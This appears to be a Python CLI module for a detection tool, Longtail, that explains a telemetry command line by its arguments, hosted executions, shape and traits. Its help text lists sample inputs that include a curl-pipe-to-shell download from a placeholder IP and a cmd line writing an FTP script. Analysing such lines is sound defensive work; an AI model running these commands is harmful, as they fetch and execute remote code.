"""One command line → how Longtail reads it: its arguments, what it hosts, its shape and what it means to do."""

import json
import sys
from collections.abc import Iterator
from typing import Any

import click

EXAMPLES = (
    "\b"
    + r"""
Examples:
  longtail explain-command '"C:\Windows\system32\cmd.exe" /c echo open 1.2.3.4>So.2'
  longtail explain-command 'svc.exe a.dll,Run' --image 'C:\Temp\svc.exe'
  longtail explain-command "sh -c 'curl http://198.51.100.7/x | sh'" --posix -f json
"""
)


@click.command(name="explain-command", epilog=EXAMPLES)
@click.argument("line")
@click.option("--image", metavar="PATH", help="The image that ran, where it is not what the line begins with.")
@click.option("--posix", is_flag=True, help="Read the line as a POSIX system would; told from the line otherwise.")
@click.option("-f", "--format", "style", type=click.Choice(["table", "json"]), default="table", show_default=True)
def command(line: str, image: str | None, posix: bool, style: str) -> None:
    """How one command line is read: its arguments, its hosts, what really ran.

    LINE is the whole command line as telemetry has it; `-` reads it from standard input.
    """
    text = sys.stdin.read().rstrip("\r\n") if line == "-" else line
    explained = explanation(text, image, posix)
    if style == "json":
        click.echo(json.dumps(explained, ensure_ascii=True, indent=2))
        return
    for row in _rows(explained):
        click.echo(row)


def explanation(line: str, image: str | None = None, posix: bool = False) -> dict[str, Any]:
    """Everything Longtail makes of one command line, as plain values."""
    from longtail.executions.argv import posix_argv, windows_argv
    from longtail.executions.hosted import hosted, is_posix
    from longtail.executions.paths import executable
    from longtail.executions.shapes import coarse, shape
    from longtail.executions.traits import traits

    unix = posix or is_posix(image, line)
    argv = posix_argv(line) if unix else windows_argv(line)
    program = executable(image or (argv[0] if argv else ""))
    told = shape(line, program.name)
    return {
        "dialect": "posix" if unix else "windows",
        "argv": argv,
        "executable": {"location": program.location, "name": program.name, "zone": program.zone.value},
        "hosted": [
            {
                "location": each.executable.location,
                "name": each.executable.name,
                "zone": each.executable.zone.value,
                "hosted_by": each.hosted_by,
                "command": each.command,
                "shape": shape(each.command, each.executable.name),
            }
            for each in hosted(image or ("/" + program.name if posix else None), line)
        ],
        "shape": told,
        "coarse_shape": coarse(told),
        "traits": sorted(trait.name.lower() for trait in traits(line)),
    }


def _rows(explained: dict[str, Any]) -> Iterator[str]:
    from longtail.text import clean

    ran = explained["executable"]
    yield f"program  {_called(ran)}"
    yield f"read as  {explained['dialect']}, {len(explained['argv'])} arguments"
    yield from (f"  {number:>2}  {clean(value, 200)}" for number, value in enumerate(explained["argv"][:40]))
    yield (
        "ran inside" if explained["hosted"] else "ran inside  nothing: this program is no host, or it was told no file"
    )
    yield from _tree(explained["hosted"], ran["name"])
    yield f"shape    {clean(explained['shape'])}"
    yield f"coarse   {clean(explained['coarse_shape'])}"
    yield f"means    {', '.join(each.replace('_', ' ') for each in explained['traits']) or 'nothing in particular'}"


def _tree(hosted: list[dict[str, Any]], root: str) -> Iterator[str]:
    """Each hosted execution under its host, as deep as the hosts before it nest."""
    from longtail.text import clean

    chain = [root]
    for each in hosted:
        while len(chain) > 1 and not _is(chain[-1], each["hosted_by"]):
            chain.pop()
        yield f"{'  ' * len(chain)}└ {_called(each)}   by {clean(each['hosted_by'])}: {clean(each['command'], 120)}"
        chain.append(each["name"])


def _is(name: str, host: str) -> bool:
    return name.removesuffix(".exe") == host.removesuffix(".exe")


def _called(ran: dict[str, Any]) -> str:
    from longtail.text import clean

    return f"{clean(ran['location'] + ran['name'], 200) or '(none)'} [{ran['zone']}]"
